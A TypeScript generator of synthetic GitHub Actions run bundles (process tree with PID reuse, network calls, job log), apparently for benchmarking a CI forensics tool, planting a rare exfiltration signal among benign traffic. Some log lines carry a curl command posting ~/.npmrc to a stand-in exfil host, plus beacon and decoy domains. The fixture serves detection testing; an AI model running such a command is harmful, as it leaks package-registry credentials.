/**
 * Deterministic synthetic run data for the benchmarks: a process plan with PID reuse (shared by the bundle and by
 * the process-identity benchmark) and a run bundle v1 folder (manifest.json, network.jsonl, processes.jsonl and a
 * job log `logs/1_build.txt`). Documentation domains and addresses only. Times are integer microseconds from T0.
 */
import * as fs from 'node:fs';
import * as path from 'node:path';
import { rng } from '../scripts/seeded-random';

/** 2026-10-14T09:12:03Z in microseconds since the Unix epoch. */
export const T0_US = Date.UTC(2026, 9, 14, 9, 12, 3) * 1000;
export const JOB = 'build';
export const WORKER_PID = 1000;


let cachedSec = -1;
let cachedIso = '';
/** RFC 3339 in UTC with `digits` (7 or 9) fractional digits; `us` from the epoch, `ns` 0..999 added. */
export function stamp(us: number, digits: 7 | 9, ns = 0): string {
  const sec = Math.floor(us / 1e6);
  if (sec !== cachedSec) {
    cachedSec = sec;
    cachedIso = new Date(sec * 1000).toISOString().slice(0, 19);
  }
  const micro = String(us - sec * 1e6).padStart(6, '0');
  const frac = digits === 9 ? micro + String(ns).padStart(3, '0') : micro + '0';
  return `${cachedIso}.${frac}Z`;
}

export interface StepPlan {
  number: number;
  name: string;
  uses: string | null;
  startUs: number;
  endUs: number;
}

export interface ProcPlan {
  pid: number;
  ppid: number;
  startUs: number;
  endUs: number;
  exe: string;
  args: string[];
  step: number;
  depth: number;
}

export interface RunPlan {
  spanUs: number;
  steps: StepPlan[];
  /** Index 0: the runner's worker; then one entry shell per step; then everything else in start order. */
  procs: ProcPlan[];
  /** Distinct pids used for the non-shell processes (each reused about procs / pidPool times). */
  pidPool: number;
}

const STEP_NAMES = [
  'Set up job',
  'Run actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683',
  'Run actions/setup-node@49933ea5288caeca8642d1e84afbd3f7d6820020',
  'Run npm ci',
  'Run make -j16',
  'Run npm run lint',
  'Run npm test',
  'Run python3 scripts/integration.py',
  'Run docker build .',
  'Run npm run e2e',
  'Post Run actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683',
  'Complete job',
];

const EXES: [string, string[]][] = [
  ['/usr/local/bin/node', ['node', 'scripts/build.js']],
  ['/usr/bin/sh', ['sh', '-c', 'npm run compile']],
  ['/usr/bin/git', ['git', 'rev-parse', 'HEAD']],
  ['/usr/bin/curl', ['curl', '-fsSL', 'https://registry.example.org/pkg.tgz']],
  ['/usr/bin/cc', ['cc', '-c', 'src/unit.c', '-o', 'build/unit.o']],
  ['/usr/bin/python3', ['python3', '-m', 'pytest', '-q']],
  ['/usr/bin/grep', ['grep', '-r', 'TODO', 'src']],
];

/**
 * `n` processes (worker and step shells included) over a 20-minute job of 12 steps. PIDs of the ordinary processes
 * cycle through a pool of n/10 (at least 200): every pid is reused about 10 times, never while still alive
 * (lifetimes are at most 10 s, a pid comes back after a tenth of the job).
 */
export function planRun(n: number, seed = 20261014): RunPlan {
  const rand = rng(seed);
  const spanUs = 1200 * 1e6;
  const stepUs = spanUs / STEP_NAMES.length;
  const steps: StepPlan[] = STEP_NAMES.map((name, i) => ({
    number: i + 1,
    name,
    uses: /@[0-9a-f]{40}$/.test(name) ? name.replace(/^(Post )?Run /, '') : null,
    startUs: T0_US + Math.round(i * stepUs),
    endUs: T0_US + Math.round((i + 1) * stepUs),
  }));
  const procs: ProcPlan[] = [
    {
      pid: WORKER_PID,
      ppid: 0,
      startUs: T0_US,
      endUs: T0_US + spanUs,
      exe: '/home/runner/actions-runner/bin/Runner.Worker',
      args: ['Runner.Worker', 'spawnclient', '108', '111'],
      step: 0,
      depth: 0,
    },
  ];
  for (const s of steps) {
    procs.push({
      pid: 1100 + s.number,
      ppid: WORKER_PID,
      startUs: s.startUs + 10_000,
      endUs: s.endUs - 10_000,
      exe: '/usr/bin/bash',
      args: ['bash', '-e', `/home/runner/work/_temp/step${s.number}.sh`],
      step: s.number,
      depth: 1,
    });
  }
  const rest = Math.max(0, n - procs.length);
  const pidPool = Math.max(200, Math.floor(n / 10));
  const usable = spanUs - steps.length * 200_000;
  const recent: ProcPlan[] = [];
  for (let i = 0; i < rest; i++) {
    // start times increase with i, skipping the first and last 100 ms of every step
    const offset = (i / rest) * usable;
    const s = Math.min(steps.length - 1, Math.floor(offset / (usable / steps.length)));
    const step = steps[s]!;
    const shell = procs[1 + s]!;
    const startUs = Math.round(step.startUs + 100_000 + (offset - s * (usable / steps.length)));
    const endUs = Math.min(step.endUs - 20_000, startUs + 200_000 + Math.round(rand() * 9_800_000));
    let parent = shell;
    if (rand() > 0.3) {
      for (let k = 0; k < 8 && k < recent.length; k++) {
        const c = recent[recent.length - 1 - Math.floor(rand() * Math.min(8, recent.length))]!;
        if (c.step === step.number && c.endUs > startUs && c.depth < 12) {
          parent = c;
          break;
        }
      }
    }
    const [exe, args] = EXES[Math.floor(rand() * EXES.length)]!;
    const p: ProcPlan = {
      pid: 2000 + (i % pidPool),
      ppid: parent.pid,
      startUs,
      endUs: Math.max(startUs + 1, endUs),
      exe,
      args: [...args, `#${i}`],
      step: step.number,
      depth: parent.depth + 1,
    };
    procs.push(p);
    recent.push(p);
    if (recent.length > 64) recent.splice(0, 32);
  }
  return { spanUs, steps, procs, pidPool };
}

/** The exec and exit events of a plan, in time order, as processes.jsonl objects. */
export function processEvents(plan: RunPlan): Record<string, unknown>[] {
  const evs: { t: number; o: Record<string, unknown> }[] = [];
  for (const p of plan.procs) {
    evs.push({
      t: p.startUs,
      o: {
        ts: stamp(p.startUs, 9, 17),
        event: 'exec',
        pid: p.pid,
        ppid: p.ppid,
        exe: p.exe,
        args: p.args,
        cwd: '/home/runner/work/app/app',
        uid: 1001,
      },
    });
    evs.push({ t: p.endUs, o: { ts: stamp(p.endUs, 9, 171), event: 'exit', pid: p.pid, exit_code: 0 } });
  }
  evs.sort((a, b) => a.t - b.t);
  return evs.map((e) => e.o);
}

/** Endpoints the calls go to, with their documentation addresses. */
export const DOMAINS = {
  allowed: [
    ['github.com', '192.0.2.10'],
    ['api.github.com', '192.0.2.11'],
    ['objects.githubusercontent.com', '192.0.2.12'],
    ['registry.example.org', '203.0.113.10'],
    ['cdn.example.org', '203.0.113.11'],
  ] as [string, string][],
  /** Rare: a handful of calls and log lines (the finding an analyst explains). */
  exfil: ['telemetry.exfil.example', '198.51.100.23'] as [string, string],
  /** About 0.1% of calls. */
  beacon: ['beacon.exfil.example', '203.0.113.77'] as [string, string],
  /** Mentioned in logs only, to trip a substring search (not a whole-token match of the exfil domain). */
  decoy: 'telemetry.exfil.example.net',
};

export const ALLOWED_ENDPOINTS = [
  'github.com:443',
  'api.github.com:443',
  'objects.githubusercontent.com:443',
  '*.example.org:443',
];

export interface BundleSizes {
  processes: number;
  calls: number;
  logLines: number;
}

export interface BundleInfo {
  dir: string;
  files: string[];
  bytes: number;
  plan: RunPlan;
  /** Rows each table must hold after the import. */
  expected: { network: number; process_events: number; processes: number; log_lines: number; steps: number };
  /** Calls to the rare exfil domain (their call ids are not known before the import). */
  exfilCalls: number;
  /** Log lines that mention the exfil domain or its IP as a whole token. */
  exfilMentions: number;
}

class LineWriter {
  private buf: string[] = [];
  private readonly fd: number;
  bytes = 0;
  constructor(file: string) {
    this.fd = fs.openSync(file, 'w');
  }
  push(line: string): void {
    this.buf.push(line);
    if (this.buf.length >= 10_000) this.flush();
  }
  private flush(): void {
    if (!this.buf.length) return;
    const s = this.buf.join('\n') + '\n';
    this.bytes += Buffer.byteLength(s);
    fs.writeSync(this.fd, s);
    this.buf = [];
  }
  close(): void {
    this.flush();
    fs.closeSync(this.fd);
  }
}

export function writeBundle(dir: string, sizes: BundleSizes, seed = 20261014): BundleInfo {
  const rand = rng(seed + 1);
  const plan = planRun(sizes.processes, seed);
  fs.mkdirSync(path.join(dir, 'logs'), { recursive: true });
  const files: string[] = [];
  let bytes = 0;

  // ---- manifest.json ----
  const manifest = {
    format: 'ci-run-bundle',
    version: 1,
    producer: { name: 'runlens-bench', version: '1' },
    run: {
      repository: 'acme/monorepo',
      workflow: 'CI',
      workflow_path: '.github/workflows/ci.yml',
      run_id: 18311499999,
      run_attempt: 1,
      job: JOB,
      job_id: 81853699999,
      head_sha: '9f1c2e7a4b3d5c6e8f90a1b2c3d4e5f60718293a',
      ref: 'refs/heads/main',
      event: 'push',
      runner: { os: 'Linux', image: 'ubuntu-24.04', name: 'GitHub Actions 1000042' },
      started_at: stamp(T0_US, 7),
      completed_at: stamp(T0_US + plan.spanUs, 7),
    },
    policy: { egress_policy: 'audit', allowed_endpoints: ALLOWED_ENDPOINTS },
    steps: plan.steps.map((s) => ({
      number: s.number,
      name: s.name,
      ...(s.uses ? { uses: s.uses } : {}),
      started_at: stamp(s.startUs, 7),
      completed_at: stamp(s.endUs, 7),
      conclusion: 'success',
    })),
  };
  const manifestText = JSON.stringify(manifest, null, 2) + '\n';
  fs.writeFileSync(path.join(dir, 'manifest.json'), manifestText);
  files.push('manifest.json');
  bytes += Buffer.byteLength(manifestText);

  // ---- processes.jsonl ----
  const pw = new LineWriter(path.join(dir, 'processes.jsonl'));
  const events = processEvents(plan);
  for (const e of events) pw.push(JSON.stringify(e));
  pw.close();
  files.push('processes.jsonl');
  bytes += pw.bytes;

  // ---- network.jsonl: calls in time order, each from a process alive at its time ----
  const nw = new LineWriter(path.join(dir, 'network.jsonl'));
  const ordinary = plan.procs.slice(1 + plan.steps.length);
  const shells = plan.procs.slice(1, 1 + plan.steps.length);
  const exfilAt = new Set([
    Math.floor(sizes.calls * 0.31),
    Math.floor(sizes.calls * 0.31) + 7,
    Math.floor(sizes.calls * 0.32),
  ]);
  let exfilCalls = 0;
  let ptr = 0;
  for (let k = 0; k < sizes.calls; k++) {
    const us = T0_US + Math.floor(((k + 0.5) * plan.spanUs) / sizes.calls);
    while (ptr + 1 < ordinary.length && ordinary[ptr + 1]!.startUs <= us) ptr++;
    let proc: ProcPlan | null = null;
    for (let back = 0; back < 16 && ptr - back >= 0; back++) {
      const c = ordinary[ptr - Math.floor(rand() * Math.min(16, ptr + 1))]!;
      if (c.startUs <= us && c.endUs >= us) {
        proc = c;
        break;
      }
    }
    proc ??= shells.find((s) => s.startUs <= us && s.endUs >= us) ?? plan.procs[0]!;
    let domain: string, ip: string;
    if (exfilAt.has(k)) {
      [domain, ip] = DOMAINS.exfil;
      exfilCalls++;
    } else if (rand() < 0.001) [domain, ip] = DOMAINS.beacon;
    else [domain, ip] = DOMAINS.allowed[Math.floor(rand() * DOMAINS.allowed.length)]!;
    const rec: Record<string, unknown> = {
      ts: stamp(us, 9, k % 1000),
      pid: proc.pid,
      domain,
      ip,
      port: 443,
      protocol: 'tcp',
      status: 'allowed',
    };
    if (rand() < 0.3)
      rec.http = { method: rand() < 0.8 ? 'GET' : 'POST', host: domain, path: `/objects/${k}`, status_code: 200 };
    nw.push(JSON.stringify(rec));
  }
  nw.close();
  files.push('network.jsonl');
  bytes += nw.bytes;

  // ---- logs/1_build.txt: one job log, a ##[group] per step ----
  const lw = new LineWriter(path.join(dir, 'logs', `1_${JOB}.txt`));
  let exfilMentions = 0;
  let nextStep = 0;
  const L = sizes.logLines;
  const rare = new Set([Math.floor(L * 0.313), Math.floor(L * 0.503), Math.floor(L * 0.771)]);
  const rareIp = new Set([Math.floor(L * 0.313) + 3, Math.floor(L * 0.601)]);
  const decoys = new Set([Math.floor(L * 0.2), Math.floor(L * 0.9)]);
  for (let j = 0; j < L; j++) {
    const us = T0_US + Math.floor(((j + 0.5) * plan.spanUs) / L);
    const ts = stamp(us, 7);
    let text: string;
    const step = plan.steps[nextStep];
    if (step && us >= step.startUs) {
      text = `##[group]${step.name}`;
      nextStep++;
    } else if (rare.has(j)) {
      text = `curl -sS -X POST --data-binary @/home/runner/.npmrc https://${DOMAINS.exfil[0]}/v2/collect`;
      exfilMentions++;
    } else if (rareIp.has(j)) {
      text = `* Connected to ${DOMAINS.exfil[1]} port 443`;
      exfilMentions++;
    } else if (decoys.has(j)) {
      text = `resolving ${DOMAINS.decoy} (not the same host)`;
    } else if (j % 20 === 1) {
      const [d] = DOMAINS.allowed[Math.floor(j / 20) % DOMAINS.allowed.length]!;
      text = `npm http fetch GET 200 https://${d}/pkg/${j}.tgz ${j % 97}ms (cache miss)`;
    } else if (j % 200 === 3) {
      text = `\x1b[36;1mecho "building unit ${j}"\x1b[0m`;
    } else if (j % 5000 === 7) {
      text = `##[warning]deprecated option in unit ${j}`;
    } else {
      text = `  compiled src/module${j % 4099}.ts -> dist/module${j % 4099}.js in ${j % 911} ms (ok)`;
    }
    lw.push(`${ts} ${text}`);
  }
  lw.close();
  files.push(`logs/1_${JOB}.txt`);
  bytes += lw.bytes;

  return {
    dir,
    files,
    bytes,
    plan,
    expected: {
      network: sizes.calls,
      process_events: events.length,
      processes: plan.procs.length,
      log_lines: L,
      steps: plan.steps.length,
    },
    exfilCalls,
    exfilMentions,
  };
}
